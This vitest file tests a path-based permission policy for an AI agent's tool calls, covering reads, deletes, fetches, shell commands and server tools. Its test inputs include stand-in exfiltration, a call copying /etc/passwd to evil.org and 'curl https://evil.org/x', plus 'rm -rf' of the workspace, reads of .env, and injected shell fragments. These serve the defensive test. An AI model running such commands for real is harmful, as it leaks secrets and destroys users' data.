import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import * as z from "zod";
import { callOf, decides, denies, HOME, ran, WORK } from "../../../test/policy-calls.ts";
import type { ToolCall } from "../../core/call.ts";
import { defineTool } from "../../core/tool.ts";
import { compileGlob } from "../../text/glob.ts";
import { quickGlob } from "./glob.ts";
import { overlaps } from "./overlap.ts";

/** Of a server: nobody knows what it touches. */
const SERVED = callOf("mcp__x__copy", { from: "/etc/passwd", options: { to: "https://evil.org/x" }, note: "a\nb" }, [
  defineTool({
    name: "mcp__x__copy",
    description: "",
    effect: "unknown",
    input: z.strictObject({ from: z.string(), options: z.strictObject({ to: z.string() }), note: z.string() }),
    touches: () => [{ kind: "unknown", why: "a server's tool" }],
    run: async () => ({ text: "" }),
  }),
]);

const reads = (path: string) => callOf("read", { path });
const allowed = (paths: string[], call: ToolCall) => decides([{ effect: "allow", tool: "*", paths }])(call) === "allow";
const denied = (paths: string[], call: ToolCall) => denies([{ effect: "deny", tool: "*", paths }])(call);

describe("a rule that allows needs every path of the call", () => {
  test.each<[string[], ToolCall, boolean]>([
    [["src/**"], reads("src/a.ts"), true],
    [["./src/**"], reads("./src/deep/../a.ts"), true],
    [["SRC/**"], reads("src/a.ts"), true],
    [[`${WORK}/src/*`], reads("src/a.ts"), true],
    [["src/*"], reads("src/deep/b.ts"), false],
    [["src/**"], reads("src/../secret/k"), false],
    [["src/**"], reads("src/link/k"), false],
    [["**"], reads("/etc/passwd"), false],
    [["**"], reads("out/passwd"), false],
    [["**"], reads("secret/k"), true],
    [["~/**"], reads("~/notes"), true],
    [["~/**"], reads(`${HOME}/notes`), true],
    [["src/**"], callOf("move_path", { source: "src/a.ts", destination: "src/b.ts" }), true],
    [["src/**"], callOf("move_path", { source: "src/a.ts", destination: "b.ts" }), false],
    [["src/*"], callOf("delete_path", { path: "src/deep" }), false],
    [["src/**"], callOf("delete_path", { path: "src/deep" }), true],
    [["https://example.com/*"], callOf("fetch", { url: "https://example.com/a" }), true],
    [["https://example.com/*"], callOf("fetch", { url: "https://example.com@evil.org/a" }), false],
    [["src/**"], ran("cat src/a.ts"), true],
    [["src/**"], ran("cat src/a.ts /etc/passwd"), false],
    [["src/**"], ran("cat src/a.ts > /etc/x"), false],
    [["src/**"], ran("python3 /etc/x.py src/a.ts"), false],
    [["src/**"], ran("python3 //etc/x.py src/a.ts"), false],
    [["src/**"], ran("tool --file=/etc/x; cat src/a.ts"), false],
    [["src/**"], ran("ls"), false],
    // What a program does that is not known for its files cannot be told.
    [["**"], ran("python3 src/x.py"), false],
    [["**"], ran("cat src/a.ts"), true],
    [["**"], ran("python3 out/x.py"), false],
    [["**"], ran("cd out && python3 ./x.py"), false],
    [["**"], ran("cd out; ./x.py"), false],
    [["src/**"], SERVED, false],
    [["src/**"], ran("cat src/a.ts $X"), false],
    [["src/**"], ran("cat src/a.ts; $X"), false],
    [["src/**"], ran("cat src/a.ts $(echo x)"), false],
    [["src/**"], ran("cat ~bob/x"), false],
    [["/**"], ran("cat ~bob/x"), false],
    [["src/**"], ran("cat src/*.ts"), true],
    [["src/*.ts"], ran("cat src/*.ts"), true],
    [["src/?.ts"], ran("cat src/*.ts"), false],
    [["src/[*].ts"], ran("cat src/*.ts"), false],
    [["src/*.ts"], ran("cat src/[ab].ts"), false],
    [["src/*"], ran("rm -r src/deep"), false],
    [["src/**"], ran("cd src && cat a.ts"), true],
    [["src/**"], ran("cd / && cat a.ts"), false],
  ])("%j: case %#", (paths, call, expected) => expect(allowed(paths, call), JSON.stringify(call.input)).toBe(expected));
});

describe("a rule that forbids needs one of them", () => {
  test.each<[string[], ToolCall, boolean]>([
    [["/etc/**"], ran("cat src/a.ts /etc/passwd"), true],
    [["/etc/**"], reads("out/passwd"), true],
    [["secret/**"], reads("src/link/k"), true],
    [["secret/**"], reads("src/../secret/k"), true],
    [["secret/**"], reads("src/a.ts"), false],
    [["**/.env"], reads(".env"), true],
    [["**/.env"], reads("/elsewhere/.env"), true],
    [["*"], reads("/elsewhere/x"), true],
    [["*"], ran("ls"), false],
    [["out/**"], reads("/etc/passwd"), true],
    [["/"], reads("/etc/passwd"), true],
    [["/**"], reads("/etc/passwd"), true],
    [["/etc/passwd"], ran("cat /etc/*"), true],
    [["/etc/*.conf"], ran("cat /etc/*"), true],
    [["/etc/*.conf"], ran("cat /etc/*.txt"), false],
    [["secret/*"], ran("cat */k"), true],
    [["secret/*"], ran("cat s?cret/k"), true],
    [["secret/*"], ran("cat {secret,src}/k"), true],
    [["src/.env"], ran("cat src/*"), false],
    [["src/.env"], ran("cat src/.*"), true],
    [["secret/k"], ran("python3 ./secret/k"), true],
    [["secret/k"], ran("python3 secret/k"), true],
    [["**/.env"], ran("python3 .env"), true],
    [["/etc/**"], SERVED, true],
    [["https://evil.org/*"], SERVED, true],
    [["/usr/**"], SERVED, false],
    // Who deletes a link leaves what it leads to.
    [["/etc"], ran(`rm ${WORK}/out`), false],
    [["/etc"], ran(`cat ${WORK}/out`), true],
    [["secret/k"], ran("tool --file=secret/k; x --file=./secret/k"), true],
    [["secret/**"], callOf("delete_path", { path: "secret" }), true],
    [["secret/deep/*"], callOf("delete_path", { path: "secret" }), true],
    [[`${WORK}/secret/k`], ran(`rm -rf ${WORK}`), true],
    [["src/x"], callOf("delete_path", { path: "secret" }), false],
    // Nobody who forbids this means that no folder can be deleted any more.
    [["**/.env"], callOf("delete_path", { path: "secret" }), false],
    [["https://evil.org/*"], callOf("fetch", { url: "HTTPS://EVIL.org:443/x" }), true],
    [["https://evil.org/*"], ran("curl https://evil.org/x"), true],
  ])("%j: case %#", (paths, call, expected) => expect(denied(paths, call), JSON.stringify(call.input)).toBe(expected));
});

test.each([
  ["/a/*", "/a/b", true],
  ["/a/*", "/a/b/c", false],
  ["/a/**", "/a/b/c", true],
  ["/a/**", "/a", true],
  ["/a/b/**", "/a/**/z", true],
  ["/a/b", "/**/b", true],
  ["/a/*.ts", "/a/*.js", false],
  ["/a/x*", "/a/*y", true],
  ["/a/?", "/a/bb", false],
  ["/a/[xy]", "/a/z", true],
  ["/a/\\*", "/a/b", false],
  ["/a/*", "/a/.b", false],
  ["/a/B", "/A/b", true],
])("%s and %s: %s", (a, b, expected) => expect(overlaps(a, b)).toBe(expected));

test("a quick glob is a glob", () => {
  const pattern = fc.array(fc.constantFrom("a", "B", "/", "*", "**", "**/", "?", "[ab]", "[!a]", "{a,b/c}", "\\\\*", "."), {
    maxLength: 6,
  });
  const text = fc.array(fc.constantFrom("a", "b", "c", "/", "*", "."), { maxLength: 8 });
  fc.assert(
    fc.property(pattern, text, fc.constantFrom<"path" | "text">("path", "text"), (some, letters, flavour) => {
      const [glob, path] = [some.join(""), letters.join("")];
      expect(quickGlob(glob, flavour)(path)).toBe(compileGlob(glob, { flavour, letters: "any case" })(path));
    }),
    { numRuns: 1000 },
  );
});
